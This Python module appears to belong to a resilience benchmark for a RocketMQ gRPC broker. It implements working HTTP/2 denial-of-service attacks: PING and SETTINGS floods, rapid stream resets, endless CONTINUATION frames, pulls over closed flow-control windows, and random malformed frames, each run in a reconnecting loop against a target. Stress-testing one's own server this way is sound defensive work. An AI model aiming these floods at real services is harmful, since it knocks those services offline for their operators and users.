"""Frames of HTTP/2 that gRPC's own clients would not send."""

from __future__ import annotations

import os
import socket
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from itertools import count

from bench.hostile.attack import ATTACKED, CLIENT_ID, Attack, Target
from bench.hostile.attacks.sending import fill
from bench.hostile.lines import PAUSE_S, open_socket
from rmqpull_proto.apache.rocketmq.v2 import definition_pb2 as v2
from rmqpull_proto.apache.rocketmq.v2 import service_pb2 as messaging
from rmqpull_proto.rpc import MESSAGING

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
_END_STREAM, _END_HEADERS = 1, 4
_CANCEL = 8
_CONNECTIONS = 4


def make_frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Returns a frame of HTTP/2."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def make_headers(path: str) -> bytes:
    """Returns the block of headers of a call: literals without an index, and no text longer than 126 bytes."""
    pairs = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "a",
        "te": "trailers",
        "content-type": "application/grpc",
        "x-mq-client-id": CLIENT_ID,
    }
    texts = [text.encode() for pair in pairs.items() for text in pair]
    sized = [bytes([len(text)]) + text for text in texts]
    return b"".join(b"\0" + name + value for name, value in zip(sized[::2], sized[1::2], strict=True))


def _flood(address: str, make_parts: Callable[[], Iterator[bytes]]) -> Iterator[None]:
    """Sends the parts of one connection after the other, and begins again where the broker closes one."""
    opened: dict[socket.socket, Iterator[bytes]] = {}
    yield
    while True:
        try:
            while len(opened) < _CONNECTIONS:
                one = open_socket(address)
                one.settimeout(PAUSE_S)
                opened[one] = make_parts()
                one.sendall(_PREFACE)
        except OSError:
            time.sleep(PAUSE_S)
        for one, parts in [*opened.items()]:
            try:
                one.sendall(next(parts, b""))
                with suppress(BlockingIOError):
                    if not one.recv(1 << 18, socket.MSG_DONTWAIT):
                        raise ConnectionError
            except OSError:  # a part of a frame may be sent when the time is over: only a new connection can go on
                del opened[one]
                one.close()
        yield


def _begin(settings: bytes = b"") -> bytes:
    return make_frame(_SETTINGS, 0, 0, settings)


def pings(target: Target) -> Iterator[None]:
    """Sends pings."""

    def parts() -> Iterator[bytes]:
        yield _begin()
        while True:
            yield make_frame(_PING, 0, 0, bytes(8)) * 100

    return _flood(target.grpc, parts)


def settings(target: Target) -> Iterator[None]:
    """Sends settings, each of which has to be acknowledged."""

    def parts() -> Iterator[bytes]:
        yield _begin()
        while True:
            yield _begin(b"\0\4" + os.urandom(2) + b"\0\0") * 100

    return _flood(target.grpc, parts)


def resets(target: Target) -> Iterator[None]:
    """Begins calls and resets them at once."""
    block = make_headers(MESSAGING.methods["QueryRoute"].path)

    def parts() -> Iterator[bytes]:
        yield _begin()
        for first in count(1, 100):
            yield b"".join(
                make_frame(_HEADERS, _END_HEADERS, stream, block)
                + make_frame(_RST_STREAM, 0, stream, _CANCEL.to_bytes(4, "big"))
                for stream in range(first, first + 100, 2)
            )

    return _flood(target.grpc, parts)


def continuations(target: Target) -> Iterator[None]:
    """Sends headers that do not end."""
    field = b"\0\5large\x64" + b"x" * 100

    def parts() -> Iterator[bytes]:
        yield _begin() + make_frame(_HEADERS, 0, 1, make_headers(MESSAGING.methods["QueryRoute"].path))
        while True:
            yield make_frame(_CONTINUATION, 0, 1, field * 100) * 8

    return _flood(target.grpc, parts)


def unread_calls(target: Target) -> Iterator[None]:
    """Pulls over streams whose windows stay closed, so that no response can be sent."""
    fill(target, 5_000, body_bytes=4_000)
    request = messaging.PullMessageRequest(group=v2.Resource(name="pulling"), batch_size=32)
    request.message_queue.topic.name = ATTACKED
    request.filter_expression.expression = "*"
    data = request.SerializeToString()
    message = b"\0" + len(data).to_bytes(4, "big") + data
    block = make_headers(MESSAGING.methods["PullMessage"].path)

    def parts() -> Iterator[bytes]:
        yield _begin(b"\0\4\0\0\0\0")
        for stream in range(1, 2_000, 2):
            headers = make_frame(_HEADERS, _END_HEADERS, stream, block)
            yield headers + make_frame(_DATA, _END_STREAM, stream, message)
        while True:
            time.sleep(PAUSE_S)
            yield b""

    return _flood(target.grpc, parts)


def random_frames(target: Target) -> Iterator[None]:
    """Sends frames of all kinds with random content."""

    def parts() -> Iterator[bytes]:
        yield _begin()
        for number in count():
            yield make_frame(number % 12, number % 64, number % 7, os.urandom(number % 400))

    return _flood(target.grpc, parts)


HTTP2_FRAMES = (
    Attack("h2-pings", "PING in a loop", "gRPC's own limit of pings", pings),
    Attack("h2-settings", "SETTINGS in a loop", "gRPC's own limits", settings),
    Attack("h2-resets", "calls that are reset at once", "concurrent calls", resets),
    Attack("h2-continuations", "headers that do not end", "gRPC's own limit of metadata", continuations),
    Attack("h2-unread", "pulls over streams whose window is closed", "concurrent calls", unread_calls),
    Attack("h2-random", "random frames of all kinds", "gRPC's own checks", random_frames),
)
